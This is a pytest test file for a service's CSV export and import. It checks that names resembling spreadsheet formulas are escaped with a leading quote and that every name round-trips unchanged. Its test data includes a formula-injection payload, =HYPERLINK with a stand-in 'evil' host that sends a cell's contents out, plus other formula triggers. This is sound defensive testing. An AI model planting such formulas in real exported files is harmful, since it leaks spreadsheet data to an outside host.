"""Tables for spreadsheets: no name is run as a formula, and every name comes back as it was."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from service.cli.main import cli
from service.configuration.table_text import read_table, write_table
from service.rooms.config import RoomConfig
from service.store.engine import open_store
from service.store.rooms import get_room, put_room

FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
NAMES = [*FORMULAS, "'=1", "''=1", "'quoted'", " =1 ", "a\r\nb", "plain"]


def link(name: str) -> dict[str, object]:
    return {"link": "l1", "room": None, "nic": "auto", "name": name}


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_is_a_text(name: str) -> None:
    written = list(csv.DictReader(io.StringIO(write_table("links", [link(name)]), newline="")))
    assert written[0]["name"].startswith("'")


@settings(max_examples=200, deadline=None)
@given(st.text(st.sampled_from("'=+-@\t\r\n ,;\"aü"), max_size=8).filter(str.strip))
def test_every_text_comes_back_as_it_was(name: str) -> None:
    kind, (entry,), _ = read_table(write_table("links", [link(name)]), "links.csv")
    assert (kind, entry["name"]) == ("links", name)


def test_a_site_of_such_names_goes_to_another_as_it_is(tmp_path: Path) -> None:
    def run(*words: str) -> str:
        done = CliRunner().invoke(cli, ["config", *words])
        assert done.exit_code == 0, done.exception
        return done.stdout

    file, rooms = str(tmp_path / "rooms.csv"), {f"r{at}": name for at, name in enumerate(NAMES)}
    store = open_store(f"sqlite:///{tmp_path / 'roomtone.sqlite3'}")
    for room, name in rooms.items():
        config = RoomConfig(name=name, tags={"=tag": name.strip()})
        put_room(store, room, config, check=lambda _: None, actor="test", nics={})
    store.close()
    run("export", file, "--csv", "rooms", "--data-dir", str(tmp_path))
    assert run("import", file, "--data-dir", str(tmp_path)) == "no difference\n"
    run("import", file, "--yes", "--data-dir", str(tmp_path / "other"))
    other = open_store(f"sqlite:///{tmp_path / 'other' / 'roomtone.sqlite3'}")
    found = {room: get_room(other, room) for room in rooms}
    assert {room: one and one.config.name for room, one in found.items()} == rooms
    other.close()
